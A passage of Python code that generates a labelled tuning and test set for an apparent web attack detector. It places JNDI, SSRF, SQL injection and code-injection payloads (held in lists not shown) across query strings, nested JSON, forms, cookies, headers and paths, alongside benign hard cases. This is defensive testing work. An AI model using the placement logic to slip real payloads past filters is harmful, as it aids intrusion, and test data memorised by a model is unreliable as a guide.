    return "tune-test" if digest[0] < int(256 * TEST_SHARE) else "tune"


def _ua(r: random.Random) -> str:
    return r.choice([
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0", "python-httpx/0.27.0", "Go-http-client/2.0",
        "axios/1.7.2", "curl/8.7.1", "okhttp/4.12.0",
    ])


_DEEP_KEYS = ["data", "attributes", "settings", "integrations", "webhook", "config", "target", "source", "meta", "options"]


def _place(payload: str, i: int, r: random.Random, *, header_ok: bool = True) -> dict:
    """One request with the payload at a location picked by ``i``: query, JSON (shallow or
    deep), form, cookie, several headers, or a path segment."""
    field = r.choice(["url", "callback", "webhook_url", "q", "name", "comment", "id", "sort", "order", "filter", "image_url",
                      "host", "target", "avatar", "redirect", "next", "file", "template", "message", "limit"])
    headers = {"user-agent": _ua(r), "accept": "application/json"}
    where = i % 9
    if not header_ok and where in (4, 5, 6, 8):
        where = (1, 2, 3, 7)[i % 4]
    if where == 0:
        return {"method": "GET", "path": "/api/v2/search", "query": f"{field}={quote(payload, safe='')}&page=1", "headers": headers, "body": None}
    if where in (1, 2):
        headers["content-type"] = "application/json"
        value: object = payload
        if where == 2:
            for key in r.sample(_DEEP_KEYS, r.randrange(3, 6)):
                value = {key: value} if r.random() < 0.7 else [{key: value, "enabled": True}]
        return {"method": r.choice(["POST", "PUT", "PATCH"]), "path": "/api/v2/resources/7", "query": "", "headers": headers,
                "body": json.dumps({"id": 7, field: value, "tags": ["x"]})}
    if where == 3:
        headers["content-type"] = "application/x-www-form-urlencoded"
        return {"method": "POST", "path": "/api/v2/forms", "query": "", "headers": headers, "body": f"a=1&{field}={quote(payload, safe='')}"}
    if where == 4:
        headers["cookie"] = f"sid=7f3a9; {field}={quote(payload, safe='')}"
        return {"method": "GET", "path": "/api/v2/me", "query": "", "headers": headers, "body": None}
    if where == 5:
        headers[r.choice(["x-api-version", "x-callback-url", "x-original-url", "x-forwarded-host", "x-device-id", "x-correlation-id"])] = payload
        return {"method": "GET", "path": "/api/v2/status", "query": "", "headers": headers, "body": None}
    if where == 6:
        headers[r.choice(["user-agent", "referer"])] = payload
        return {"method": "GET", "path": "/api/v2/items", "query": "", "headers": headers, "body": None}
    if where == 7:
        headers["content-type"] = "application/json"
        return {"method": "POST", "path": "/api/v2/batch", "query": "", "headers": headers,
                "body": json.dumps([{"op": "add", "path": f"/{field}", "value": payload}])}
    if "\n" not in payload and "/" not in payload and "?" not in payload and "#" not in payload:
        return {"method": "GET", "path": "/api/v2/items/" + quote(payload, safe=""), "query": "", "headers": headers, "body": None}
    return {"method": "GET", "path": "/api/v2/lookup", "query": f"{field}={quote(payload, safe='')}", "headers": headers, "body": None}


def attacks4() -> list[dict]:
    r = rng4
    out: list[dict] = []
    for category, payloads in (("jndi", JNDI4), ("ssrf", SSRF4), ("sqli", SQLI4), ("code_injection", PY4)):
        for i, payload in enumerate(payloads):
            cat = category
            if category == "code_injection" and payload.startswith(("/", "file:", "C:\\")):
                cat = "path_traversal"
            elif category == "code_injection" and payload.startswith(("{", "%(")):
                cat = "ssti"
            item_id = f"{cat}-d{category[:3]}{i:03d}"
            # headers carry no raw line breaks: such payloads (pickles) go elsewhere
            req = _place(payload, i, r, header_ok="\n" not in payload)
            out.append({"id": item_id, "category": cat, "source": "tuning: fourth batch (public payload knowledge)",
                        "split": split_of(item_id), "request": req})
    return out


def _password(r: random.Random) -> str:
    alphabet = string.ascii_letters + string.digits + string.punctuation
    return "".join(r.choice(alphabet) for _ in range(r.randrange(14, 33)))


def benign4() -> list[dict]:
    r = rng4
    out: list[dict] = []

    def add(kind: str, req: dict) -> None:
        item_id = f"benign4-{kind}-{len(out):04d}"
        out.append({"id": item_id, "category": "benign", "kind": kind, "source": "tuning: fourth batch (benign hard cases)",
                    "split": split_of(item_id), "request": req})

    def post(body: object, path: str, method: str = "POST") -> dict:
        return {"method": method, "path": path, "query": "", "headers": {"user-agent": _ua(r), "content-type": "application/json"},
                "body": json.dumps(body, ensure_ascii=r.random() < 0.5)}

    for i in range(300):
        text = r.choice(SHELL4_TEMPLATES).format(c=r.choice(SHELL4))
        body = r.choice([{"ticket": {"id": 7000 + i, "comment": {"body": text, "visibility": "internal"}}}, {"comment": text},
                         {"text": text, "thread_ts": f"1717{i:06d}.000100"}, {"note": text, "status": "open"}])
        add("support_shell", post(body, r.choice(["/api/tickets/7/comments", "/api/support/replies", "/api/chat/messages"])))
    for c in SHELL5:
        for t in SHELL5_TEMPLATES:
            add("support_shell", post({"comment": t.format(c=c), "ticket_id": r.randrange(10**4)}, "/api/tickets/9/comments"))
    for i in range(300):
        record = {"id": i, "name": r.choice(CRUD4_VALUES), "description": r.choice(CRUD4_VALUES), "sku": f"SKU-{r.randrange(10**5):05d}",
                  "attributes": {r.choice(["color", "size", "notes", "label", "ref"]): r.choice(CRUD4_VALUES)}, "qty": r.randrange(1, 99)}
        if i % 3 == 0:
            add("plain_crud", {"method": "GET", "path": "/api/v2/products", "query": f"q={quote(r.choice(CRUD4_VALUES), safe='')}&sort=-created_at",
                               "headers": {"user-agent": _ua(r)}, "body": None})
        else:
            add("plain_crud", post(record, r.choice(["/api/v2/products", f"/api/v2/products/{i}"]), r.choice(["POST", "PUT", "PATCH"])))
    for i in range(120):
        pw = _password(r)
        if i % 3 == 0:
            add("passwords", {"method": "POST", "path": "/api/login", "query": "",
                              "headers": {"user-agent": _ua(r), "content-type": "application/x-www-form-urlencoded"},
                              "body": f"username=user{i}&password={quote(pw, safe='')}"})
        else:
            add("passwords", post({"email": f"user{i}@example.com", "password": pw, "password_confirmation": pw}, "/api/signup"))
    for i in range(80):
        text = r.choice(REVIEW4)
        add("code_review", post({"pull_request": 2000 + i, "path": r.choice(["app/handlers.py", "app/db.py"]), "line": r.randrange(1, 300), "body": text},
                                "/api/reviews/comments"))
    for i in range(60):
        u = r.choice(DOC_URLS)
        add("urls", post({"title": "Reference", "link": u, "note": r.choice(DOC_TEMPLATES).format(u=u)}, "/api/bookmarks"))
    for i in range(60):
        text = r.choice(MATH4)
        if i % 2:
            add("math", post({"question": text, "course": "MATH 101"}, "/api/homework"))
        else:
            add("math", {"method": "GET", "path": "/api/search", "query": "q=" + quote(text, safe=""), "headers": {"user-agent": _ua(r)}, "body": None})
    return out
